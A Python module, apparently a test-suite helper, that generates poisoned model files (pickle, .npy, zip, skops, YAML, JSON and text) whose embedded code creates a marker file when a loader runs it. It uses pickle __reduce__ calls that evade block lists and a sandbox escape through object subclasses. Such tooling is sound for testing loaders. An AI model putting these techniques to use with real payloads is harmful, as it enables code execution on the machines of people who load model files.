"""What a thief puts in place of a model's file: code, in the very format of the file.

A poison in another format says nothing about a loader: it fails because it cannot be read.
"""

from __future__ import annotations

import base64
import bz2
import cProfile
import gzip
import io
import json
import lzma
import pickle
import re
import zipfile
import zlib
from collections.abc import Callable, Iterator
from contextlib import suppress
from dataclasses import dataclass
from functools import partial
from itertools import islice
from pathlib import Path
from typing import Any

MOST = 8
"""Poisons of a file with many places for one; each costs a promotion and two predictions."""
_ZIP, _NPY = b"PK\x03\x04", b"\x93NUMPY"
_PICKLE = re.compile(rb"\x80[\x02-\x05]")
_COMPRESSIONS: dict[bytes, tuple[Callable[[bytes], bytes], Callable[[bytes], bytes]]] = {
    b"\x1f\x8b": (gzip.decompress, gzip.compress),
    b"BZh": (bz2.decompress, bz2.compress),
    b"\xfd7zXZ": (lzma.decompress, lzma.compress),
    b"x": (zlib.decompress, zlib.compress),
}
_NUMBER = re.compile(r"-?\d+(?:\.\d*)?(?:[eE][+-]?\d+)?")


@dataclass(frozen=True)
class Poison:
    """A file that runs code where code of such a file runs at all, and what kind of file it is."""

    kind: str
    body: bytes


class _Call:
    """A pickle of it calls something as it is loaded."""

    def __init__(self, function: Callable[..., Any], *given: Any) -> None:
        self._call = function, given

    def __reduce__(self) -> tuple[Any, ...]:
        return self._call


def poisons(honest: bytes, marker: Path) -> list[Poison]:
    """Poisons in the format of an honest file; none for a format that is not known here.

    The code of each leaves the file `marker`.
    """
    return list(islice(dict.fromkeys(_poisons(honest, marker)), MOST))


def pickles(marker: Path) -> list[Poison]:
    """Pickles by functions that a list of bad names forgets, one from a package of models."""
    from numpy.testing._private.utils import runstring

    ways: list[tuple[Any, ...]] = [(eval,), (cProfile.run,), (runstring, {})]
    text = f"{_plain(marker)} or (lambda x: 0)"
    return [Poison("pickle", pickle.dumps(_Call(by, text, *more))) for by, *more in ways]


def _poisons(honest: bytes, marker: Path) -> Iterator[Poison]:
    if _PICKLE.match(honest):
        yield from pickles(marker)
    elif honest.startswith(_NPY):
        yield Poison(".npy", _npy(marker))
    elif honest.startswith(_ZIP):
        yield from _zips(honest, marker)
    else:
        for magic, (unpack, pack) in _COMPRESSIONS.items():
            if honest.startswith(magic):
                with suppress(OSError, EOFError, lzma.LZMAError, zlib.error):
                    for inner in _poisons(unpack(honest), marker):
                        yield Poison(f"compressed {inner.kind}", pack(inner.body))
                    return
        with suppress(UnicodeDecodeError):
            yield from _texts(honest.decode(), marker)


def _npy(marker: Path) -> bytes:
    import numpy as np

    file = io.BytesIO()
    call = _Call(eval, f"{_plain(marker)} or 0")
    np.save(file, np.array([call, call], dtype=object), allow_pickle=True)
    return file.getvalue()


def _zips(honest: bytes, marker: Path) -> Iterator[Poison]:
    with zipfile.ZipFile(io.BytesIO(honest)) as archive:
        members = {name: archive.read(name) for name in archive.namelist()}
    if "schema.json" in members:
        yield from _skops(marker)
    for name, body in members.items():
        for inner in _poisons(body, marker) if name != "schema.json" else ():
            file = io.BytesIO()
            with zipfile.ZipFile(file, "w") as archive:
                for other, kept in members.items():
                    archive.writestr(other, inner.body if other == name else kept)
            yield Poison(f"{inner.kind} in a zip file", file.getvalue())


def _skops(marker: Path) -> Iterator[Poison]:
    """A model to call, and one to ask for a prediction."""
    import numpy as np
    import skops.io
    from sklearn.linear_model import LinearRegression
    from sklearn.pipeline import Pipeline
    from sklearn.preprocessing import FunctionTransformer

    call = partial(cProfile.run, _plain(marker))
    line = LinearRegression().fit(np.array([[0.0], [1.0]]), [0.0, 1.0])
    asked = Pipeline([("first", FunctionTransformer(call)), ("then", line)])
    for model in (asked, call):
        yield Poison("skops file", skops.io.dumps(model))


def _texts(text: str, marker: Path) -> Iterator[Poison]:
    """Code in place of each value of a JSON document, or of all of a text or a number in it."""
    expressions = (_without_builtins(marker), _plain(marker))
    try:
        document = json.loads(text)
    except ValueError:
        for code in expressions:
            for kind, value in _values(text.strip(), code, marker):
                yield Poison(f"text with {kind}", value.encode())
        tag = f"!!python/object/apply:builtins.eval [{json.dumps(expressions[1])}]\n"
        yield Poison("YAML", tag.encode())
        for number in _NUMBER.finditer(text):
            changed = text[: number.start()] + f"({expressions[0]})" + text[number.end() :]
            yield Poison("text with code as a number", changed.encode())
        return
    for code in expressions:
        for leaf, put in _leaves(document):
            for kind, value in _values(leaf, code, marker):
                yield Poison(f"JSON with {kind}", json.dumps(put(value)).encode())


def _values(leaf: Any, code: str, marker: Path) -> Iterator[tuple[str, str]]:
    """What stands in place of a value: code, or a poison that is encoded as the value was."""
    if isinstance(leaf, str) and len(leaf) > len(_ZIP):
        with suppress(ValueError):
            encoded = base64.b64decode(leaf, validate=True)
            if not encoded.isascii():
                for inner in _poisons(encoded, marker):
                    yield f"a {inner.kind} in base64", base64.b64encode(inner.body).decode()
                return
    yield "code as a value", code


def _leaves(document: Any) -> Iterator[tuple[Any, Callable[[Any], Any]]]:
    """Each value of a document, texts first, and the document with another value there."""
    found = list(_walk(document, ()))
    for leaf, path in sorted(found, key=lambda one: not isinstance(one[0], str)):
        yield leaf, partial(_with, document, path)


def _walk(document: Any, path: tuple[Any, ...]) -> Iterator[tuple[Any, tuple[Any, ...]]]:
    if isinstance(document, dict | list):
        named = document.items() if isinstance(document, dict) else enumerate(document)
        for name, value in named:
            yield from _walk(value, (*path, name))
    else:
        yield document, path


def _with(document: Any, path: tuple[Any, ...], new: Any) -> Any:
    if not path:
        return new
    copy = document.copy()
    copy[path[0]] = _with(document[path[0]], path[1:], new)
    return copy


def _plain(marker: Path) -> str:
    return f"open({str(marker)!r}, 'w').close()"


def _without_builtins(marker: Path) -> str:
    """The same where `eval` is given no builtins: the module os is found among what is loaded."""
    classes = "().__class__.__base__.__subclasses__()"
    found = f"[c for c in {classes} if c.__name__ == '_wrap_close'][0]"
    return f"{found}.__init__.__globals__['open']({str(marker)!r}, 65)"
